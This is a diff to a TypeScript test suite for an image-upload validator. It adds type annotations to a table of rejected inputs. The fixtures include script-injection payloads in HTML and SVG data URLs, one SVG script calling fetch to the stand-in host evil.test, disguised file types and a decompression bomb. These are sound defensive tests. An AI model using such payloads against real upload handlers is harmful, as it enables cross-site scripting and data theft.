@@ -87,34 +87,38 @@ const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test"
 
 describe('a file that is refused', () => {
   it.each([
-    ['is not in a data URL', () => 'hello', messages.imageNotSent],
-    ['is not in base64', () => 'data:image/png,hello', messages.imageNotSent],
-    ['has a letter that base64 has not', () => 'data:image/png;base64,AA*A', messages.imageNotSent],
-    ['ends within four letters', () => 'data:image/png;base64,AAAAA', messages.imageNotSent],
-    ['is empty', () => 'data:image/png;base64,', messages.imageEmpty],
-    ['is a page', () => dataUrl('text/html', '<script>alert(1)</script>'), messages.imageUnknown],
-    ['is a page that says it is a picture', () => png('<html><script>1</script>'), messages.imageUnknown],
-    ['is a drawing with a script', () => dataUrl('image/svg+xml', svg), messages.imageDrawing],
+    ['is not in a data URL', (): string => 'hello', messages.imageNotSent],
+    ['is not in base64', (): string => 'data:image/png,hello', messages.imageNotSent],
+    ['has a letter that base64 has not', (): string => 'data:image/png;base64,AA*A', messages.imageNotSent],
+    ['ends within four letters', (): string => 'data:image/png;base64,AAAAA', messages.imageNotSent],
+    ['is empty', (): string => 'data:image/png;base64,', messages.imageEmpty],
+    ['is a page', (): string => dataUrl('text/html', '<script>alert(1)</script>'), messages.imageUnknown],
+    [
+      'is a page that says it is a picture',
+      (): string => png('<html><script>1</script>'),
+      messages.imageUnknown,
+    ],
+    ['is a drawing with a script', (): string => dataUrl('image/svg+xml', svg), messages.imageDrawing],
     [
       'is a drawing that says it is a picture',
-      () => png(`<?xml version="1.0"?>\n<!-- x -->${svg}`),
+      (): string => png(`<?xml version="1.0"?>\n<!-- x -->${svg}`),
       messages.imageDrawing,
     ],
-    ['is a document', () => png('%PDF-1.7 '), messages.imageUnknown],
-    ['is a film', () => png(container('isom')), messages.imageUnknown],
-    ['is HEIC', () => dataUrl('image/heic', container('heic')), messages.imageHeic],
+    ['is a document', (): string => png('%PDF-1.7 '), messages.imageUnknown],
+    ['is a film', (): string => png(container('isom')), messages.imageUnknown],
+    ['is HEIC', (): string => dataUrl('image/heic', container('heic')), messages.imageHeic],
     [
       'says it is AVIF and holds nothing',
-      () => dataUrl('image/avif', container('avif')),
+      (): string => dataUrl('image/avif', container('avif')),
       messages.imageBroken,
     ],
     ['is another kind than it says', async () => png(await fileAs('jpeg')), messages.imageLies],
     [
       'begins as a picture and is none',
-      () => png(Buffer.from('89504e470d0a1a0a00', 'hex')),
+      (): string => png(Buffer.from('89504e470d0a1a0a00', 'hex')),
       messages.imageBroken,
     ],
-    ['is too long', () => png(Buffer.alloc(limits.imageBytes + 1, 1)), messages.imageTooLarge],
+    ['is too long', (): string => png(Buffer.alloc(limits.imageBytes + 1, 1)), messages.imageTooLarge],
     ['would be too large once it is read', async () => png(await bomb()), messages.imageTooManyPixels],
   ] as const)('%s', async (_what, data, message) => {
     await expect(readPicture(await data(), 'square')).rejects.toMatchObject({
